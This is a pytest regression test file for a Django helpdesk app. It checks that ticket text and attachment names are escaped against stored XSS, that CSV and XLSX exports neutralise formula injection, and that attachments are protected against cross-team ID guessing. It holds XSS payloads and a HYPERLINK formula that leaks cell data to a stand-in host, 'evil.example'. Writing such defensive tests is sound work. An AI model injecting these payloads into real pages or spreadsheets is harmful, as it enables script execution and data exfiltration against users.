"""Regression tests for the holes peers shipped (django-helpdesk, osTicket): stored XSS in
ticket text and attachment names, spreadsheet formula injection, attachment IDOR (issue 14)."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from kefu.tickets.models import Attachment
from tests.catalog.factories import OrderFactory, ProductFactory
from tests.complaints.factories import ComplaintFactory
from tests.conftest import client_for
from tests.customers.factories import CustomerFactory
from tests.tickets.conftest import PNG
from tests.tickets.factories import TicketFactory

XSS = '<script>alert("kefu")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.fixture
def customer(team):
    return CustomerFactory(name="王伟", phone="+8613912345678", team=team)


@pytest.mark.req("A-01")
def test_a_script_in_a_ticket_description_is_shown_as_text(agent, customer):
    api = client_for(agent)
    created = api.post(
        "/api/v1/tickets",
        {"description": XSS, "channel": "web", "customer_id": customer.pk},
        content_type="application/json",
    ).json()

    page = api.get(f"/tickets/{created['number']}/").content.decode()

    assert XSS not in page
    assert "<img src=x onerror" not in page
    assert "&lt;script&gt;alert(&quot;kefu&quot;)&lt;/script&gt;" in page


@pytest.mark.req("A-01")
def test_a_script_in_an_attachment_name_is_shown_as_text(agent, team):
    ticket = TicketFactory(team=team)
    api = client_for(agent)
    name = '"><img src=x onerror=alert(1)>.png'
    upload = SimpleUploadedFile(name, PNG, content_type="image/png")
    assert (
        api.post(f"/api/v1/tickets/{ticket.number}/attachments", {"file": upload}).status_code
        == 201
    )

    page = api.get(f"/tickets/{ticket.number}/").content.decode()

    assert "<img src=x onerror=alert(1)>" not in page
    assert Attachment.objects.get().original_name == name


@pytest.mark.req("K-01")
def test_a_script_in_a_complaint_is_shown_as_text(supervisor, team, customer):
    complaint = ComplaintFactory(customer=customer, team=team, content=XSS)

    page = client_for(supervisor).get(f"/complaints/{complaint.number}/").content.decode()

    assert XSS not in page
    assert "&lt;script&gt;" in page


@pytest.mark.req("K-09", "Y-05")
def test_exports_neutralise_a_formula_in_a_product_name(supervisor, team, customer):
    product = ProductFactory(name=FORMULA)
    order = OrderFactory(customer=customer, items=[product])
    ComplaintFactory(
        customer=customer,
        team=team,
        nature="product_quality",
        order=order,
        order_item=order.items.get(),
    )
    client = client_for(supervisor)
    query = "start=2026-01-01&end=2026-12-31"

    text = client.get(f"/complaints/statistics/export/?{query}&format=csv").content.decode(
        "utf-8-sig"
    )
    workbook = client.get(f"/complaints/statistics/export/?{query}&format=xlsx").content

    texts = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert FORMULA not in texts
    assert "'" + FORMULA in texts
    cells = [
        cell
        for sheet in load_workbook(io.BytesIO(workbook)).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
    ]
    assert cells, "the product name is in the workbook"
    assert {cell.data_type for cell in cells} == {"s"}  # stored as text, never a formula


@pytest.mark.req("P-01")
def test_an_attachment_of_another_team_cannot_be_fetched_by_guessing_its_id(
    agent, other_team_agent, team
):
    ticket = TicketFactory(team=team)
    upload = SimpleUploadedFile("photo.png", PNG, content_type="image/png")
    client_for(agent).post(f"/api/v1/tickets/{ticket.number}/attachments", {"file": upload})
    attachment = Attachment.objects.get()
    intruder = client_for(other_team_agent)

    page = intruder.get(f"/tickets/attachments/{attachment.pk}/")
    api = intruder.get(f"/api/v1/tickets/{ticket.number}/attachments/{attachment.pk}")

    assert page.status_code in (403, 404)
    assert api.status_code in (403, 404)
    assert PNG not in page.content + api.content
